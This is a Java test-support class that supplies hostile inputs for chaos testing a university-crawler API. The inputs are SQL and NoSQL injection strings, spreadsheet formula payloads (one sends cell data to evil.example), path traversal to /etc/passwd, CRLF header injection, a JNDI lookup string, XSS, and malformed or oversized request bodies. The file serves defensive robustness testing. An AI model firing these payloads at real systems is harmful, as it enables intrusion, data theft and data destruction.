package io.univinsight.systemtests.chaos.support;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Scenario 10's hostile input: strings, query values, request bodies and raw requests that have broken servers. */
public final class HostileInput {
    private HostileInput() {
    }

    /** A request body sent to path with this Content-Type (null: none). */
    public record Body(String path, String contentType, String text) {
    }

    /** Raw percent sequences and numbers out of range, sent as they are. */
    public static final List<String> RAW_VALUES = List.of("%ED%A0%80", "%00", "%0D%0AX-Injected:%20yes", "%ZZ", "%", "%C0%AF",
            "%FF%FE", "9999999999999999999999", "-1", "1e309", "0x10");

    /** Text that has broken parsers, databases, spreadsheets, terminals and logs. */
    public static List<String> strings() {
        return List.of(
                "' OR '1'='1", "'; DROP TABLE crawl_tasks; --", "1); DELETE FROM professors; --", "%' UNION SELECT password FROM pg_shadow --",
                "\\'; SELECT pg_sleep(10); --", "{\"$ne\": null}", "\"},\"priority\":\"critical\",\"x\":{\"", "\\u0000\\\"",
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
                "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "/api/../q/health", "C:\\Windows\\System32",
                "abc\r\nX-Injected: yes", "line1\nline2\rline3",
                "\u202Eevil\u202C gnp.exe", "zero\u200Bwidth\u200D\uFEFFjoin", "lone \uD800 high", "lone \uDC00 low", "emoji 👩‍🔬🏳️‍🌈",
                "nul \u0000 byte", "bell \u0007 esc \u001B[31m", "Z̴̡̛a̷l̸g̵o̶", "ＳＥＬＥＣＴ", "%00%0d%0a", "${jndi:ldap://evil.example/a}",
                "<script>alert(1)</script>", "x".repeat(5000), "");
    }

    /** The query parameters of every list and read endpoint. */
    public static Map<String, List<String>> queryParameters() {
        Map<String, List<String>> params = new LinkedHashMap<>();
        params.put("/api/tasks", List.of("status", "university", "priority", "createdFrom", "createdTo", "cursor", "limit"));
        params.put("/api/professors", List.of("university", "department", "title", "q", "active", "cursor", "limit"));
        params.put("/api/changes", List.of("university", "since", "cursor", "limit"));
        params.put("/api/papers", List.of("doi", "yearFrom", "yearTo", "venue", "q", "university", "cursor", "limit"));
        params.put("/api/professors/export", List.of("university", "format"));
        params.put("/api/papers/export", List.of("format"));
        return params;
    }

    /** Malformed bodies, and bulk bodies past the 10,000-task limit. */
    public static List<Body> malformedBodies() {
        List<Body> bodies = new ArrayList<>();
        bodies.add(new Body("/api/tasks", "application/json", "{\"url\": "));
        bodies.add(new Body("/api/tasks", "application/json", "[]"));
        bodies.add(new Body("/api/tasks", "application/json", "null"));
        bodies.add(new Body("/api/tasks", "application/json", "\"just a string\""));
        bodies.add(new Body("/api/tasks", "application/json", "{\"url\":\"http://127.0.0.10/\",\"universityName\":\"U\",\"maxDepth\":\"deep\"}"));
        bodies.add(new Body("/api/tasks", "application/json", "{\"url\":\"http://127.0.0.10/\",\"universityName\":\"U\",\"maxPages\":1e999999}"));
        bodies.add(new Body("/api/tasks", "application/json", "{\"url\":\"http://127.0.0.10/\",\"universityName\":\"U\",\"maxDepth\":99999999999999999999}"));
        bodies.add(new Body("/api/tasks", "application/json", "[".repeat(100_000)));
        bodies.add(new Body("/api/tasks", "application/json", "{\"a\":".repeat(50_000)));
        bodies.add(new Body("/api/tasks", "application/json", "{\"url\":\"\\ud800\",\"universityName\":\"\\udc00\\ud800\"}"));
        bodies.add(new Body("/api/tasks", "application/json", "{\"url\":\"http://127.0.0.10/\",\"universityName\":\"U\\u0000V\"}"));
        bodies.add(new Body("/api/tasks", "text/plain", "url=http://127.0.0.10/"));
        bodies.add(new Body("/api/tasks", "application/xml", "<task/>"));
        bodies.add(new Body("/api/tasks", null, "{}"));
        bodies.add(new Body("/api/tasks/bulk", "application/json", "{\"not\":\"an array\"}"));
        bodies.add(new Body("/api/tasks/bulk", "application/json", "[1, \"two\", null, [], {}]"));
        bodies.add(new Body("/api/tasks/bulk", "application/json", "[" + "{\"url\":".repeat(10_000)));
        bodies.add(new Body("/api/tasks/bulk", "application/x-ndjson", "{\"url\":\n\u0000\n\"x\"\n{}\n"));
        bodies.add(new Body("/api/tasks/bulk", "text/csv", "url,university\n\"unterminated,x\n=cmd|' /C calc'!A0,=1+1\n,,,,,,\n\u0000,\u202E\n"));
        bodies.add(new Body("/api/tasks/bulk", "text/csv; charset=utf-16", "\uFEFFurl,university\n"));
        bodies.add(new Body("/api/tasks/bulk", "application/octet-stream", "\u0000\u0001"));
        bodies.add(new Body("/api/tasks/bulk", "application/x-ndjson", "{}\n".repeat(10_001)));
        StringBuilder csv = new StringBuilder("url,university\n");
        for (int i = 0; i < 10_001; i++) {
            csv.append("http://127.0.0.10/people/").append(i).append(".html,Abuse University\n");
        }
        bodies.add(new Body("/api/tasks/bulk", "text/csv", csv.toString()));
        return bodies;
    }

    /** Header injection and raw bytes (java.net.http refuses to send them), with the API key. */
    public static List<String> rawRequests(String key) {
        return List.of(
                "POST /api/tasks HTTP/1.1\r\nHost: x\r\nX-API-Key: " + key + "\r\nContent-Type: application/json\r\nIdempotency-Key: a\rb\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
                "POST /api/tasks HTTP/1.1\r\nHost: x\r\nX-API-Key: " + key + "\r\nContent-Type: application/json\r\nIdempotency-Key: key\u0000nul\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
                "GET /api/tasks?university=a%0D%0ASet-Cookie:%20x=1 HTTP/1.1\r\nHost: x\r\nX-API-Key: " + key + "\r\nConnection: close\r\n\r\n",
                "GET /api/tasks/../../q/health HTTP/1.1\r\nHost: x\r\nX-API-Key: " + key + "\r\nConnection: close\r\n\r\n",
                "GET /api/professors/%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1\r\nHost: x\r\nX-API-Key: " + key + "\r\nConnection: close\r\n\r\n",
                "POST /api/tasks HTTP/1.1\r\nHost: x\r\nX-API-Key: " + key + "\r\nContent-Type: application/json\r\nContent-Length: 999\r\nConnection: close\r\n\r\n{\"url\":",
                "POST /api/tasks HTTP/1.1\r\nHost: x\r\nX-API-Key: " + key + "\r\nContent-Type: application/json\r\nContent-Length: -5\r\nConnection: close\r\n\r\n{}",
                "POST /api/tasks HTTP/1.1\r\nHost: x\r\nX-API-Key: " + key + "\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nZZ\r\n{}\r\n0\r\n\r\n");
    }
}
